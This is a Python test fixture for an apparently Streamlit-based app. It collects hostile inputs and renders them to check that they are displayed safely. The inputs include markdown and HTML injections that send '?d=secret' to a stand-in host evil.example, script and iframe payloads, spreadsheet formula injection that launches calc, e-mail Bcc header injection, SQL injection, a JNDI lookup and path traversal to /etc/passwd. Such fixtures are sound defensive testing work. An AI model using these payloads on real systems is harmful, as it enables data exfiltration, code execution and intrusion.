"""Texts that would load, link, hide or run something, and a page that shows them all."""

EVIL = "https://evil.example"
PAYLOADS = (
    f"![x]({EVIL}/i.png?d=secret)",
    f"![x][r1]\n\n[r1]: {EVIL}/r.png",
    f"[![x]({EVIL}/i.png)]({EVIL})",
    f"![x](<{EVIL}/a b.png>)",
    f"!\\[x]({EVIL}/esc.png) and !&#91;x]({EVIL}/ent.png)",
    f"![x\n]({EVIL}/line.png)",
    f'![x]({EVIL}/t.png "title")',
    f"[Confirm]({EVIL}/?d=secret)",
    f"[Confirm][r2]\n\n[r2]: {EVIL}",
    f"[r3]\n\n[r3]: {EVIL}",
    f"<{EVIL}/auto>",
    f"{EVIL}/bare and www.evil.example and boss@evil.example",
    f"//evil.example/path and {EVIL}\u200b/zero",
    "[x](javascript:alert(1)) and [y](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:a) [y](mailto:boss@evil.example) [z](tel:+4420)",
    f"<img src='{EVIL}/h.gif' onerror=alert(1)>",
    f"<script>fetch('{EVIL}')</script><svg onload=alert(1)>",
    f"<iframe src={EVIL}></iframe><form action={EVIL}><input name=card></form>",
    f"<style>body{{background:url({EVIL}/c)}}</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<a href='{EVIL}'>x</a> &lt;a href='{EVIL}'&gt;y&lt;/a&gt;",
    f"A note[^1]\n\n[^1]: ![x]({EVIL}/foot.png)",
    f"| a | b |\n| --- | --- |\n| ![x]({EVIL}/cell.png) | 2 |",
    f"```mermaid\ngraph TD; A[<img src={EVIL}/m>] --> B\nclick A '{EVIL}'\n```",
    "```python\nimport os\n```",
    "    indented code",
    f"$\\href{{{EVIL}}}{{x}}$ and $$\\includegraphics{{{EVIL}/k.png}}$$ and \\(a\\)",
    ":material/delete: :streamlit: :smile: :rocket:",
    ":red[danger] :blue-background[x] :small[x] :color[x]{foreground='red'} :orange-badge[x]",
    f":red[![x]({EVIL}/dir.png)]",
    "# Heading\n## Second\n> a quotation\n---",
    "Setext\n===",
    "*slanted* _slanted_ ~~struck~~ `code` ***both*** __bold__",
    "a -> b <- c -- d <-> e >= f",
    "\u202eelpmaxe.live//:sptth\u202c \u2066isolated\u2069",
    "\u200bzero\u200bwidth\ufeff \U000e0041tag",
    f"- ![x]({EVIL}/li.png)\n- [x] task\n- [ ] task",
    f"1. **[bold]({EVIL}/b)** and **![x]({EVIL}/bi.png)**",
    f"** ![x]({EVIL}/open.png) ** and **never closed",
    f"Text\\\n![x]({EVIL}/back.png)\\",
    f"![x]({EVIL}/%0d%0a) \x00 \x1b[31m red",
    f"[a]: {EVIL} 'title'",
    "~~~\nfence\n~~~",
    ":::note\ninside\n:::",
    f"https\u200b://evil.example ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ {EVIL.upper()}",
)
LITERAL = (
    "paul@maison.fr, Paul+vip@maison.co.uk",
    "www.evil.com and WWW.evil.com/?d=secret",
    "https://evil.com http://evil.com ftp://evil.com mailto:a@evil.com",
    "[a](https://evil.com) ![b](https://evil.com/c.png) <https://evil.com> <img src=x>",
    "**bold** `code` $x$ :red[red] :material/home: :smile: -> <- -- ~~gone~~",
)

TRICKS = (
    '=HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "＝1+1",
    "\t@SUM(1)",
    "x\r\nBcc: boss@evil.example",
    "x\nBEGIN:VALARM\nATTACH:https://evil.example",
    "=?utf-8?q?x=0D=0ABcc:_boss@evil.example?=",
    "'; drop table customers; --",
    "x%' or '1'='1",
    '","stage":"customer","x":"',
    "eq.1,or=(id.gt.0)",
    "***:.*",
    "{{7*7}} ${jndi:ldap://evil.example} %s%n%00",
    "../../etc/passwd",
    "C:\\CON\\nul",
    "\ud800 broken",
    "\ud83d\ude00 halves",
    "a\x00b",
    "\u202egnp.exe",
    "x" + "\u0301" * 500,
    "x" * 200_000,
    "</textarea></script><script>alert(1)</script>",
    "customer_1_page",
    "\uffff\ufffe \U0010ffff",
)
"""Texts that try what reads them later: a spreadsheet, calendar, e-mail, database or disk."""

EVERY = (*PAYLOADS, *TRICKS)

if __name__ == "__main__":
    import streamlit as st

    from pages.ui import cards, text

    for number, payload in enumerate(PAYLOADS):
        with st.container(key=f"shown_{number}"):
            text.show(payload)
        with st.container(key=f"label_{number}"):
            st.button(text.literal(payload), key=f"button_{number}")
    for number, words in enumerate(LITERAL):
        with st.container(key=f"literal_{number}"):
            st.markdown(text.literal(words))
            st.caption(f"by {text.literal(words)}, today")
            st.subheader(text.literal(words), anchor=False)
            st.button(text.literal(words))
    for number, payload in enumerate(PAYLOADS):
        act = cards.Act("act", payload, {"value": payload}, hint=payload)
        words = cards.Words(payload, "soft", hint=payload)
        card = cards.Card(number, payload, "", "call", [words], [[words]], [act])
        with st.container(key=f"card_{number}"):
            cards.show(f"cards_{number}", "rows", [cards.Group("all", [card], title=payload)])
    with st.container(key="good"):
        text.show("She is **dear**: 2 * 3 ** 4\n- silk\n- **velvet**\n1. first\n2) second\nEnd.")
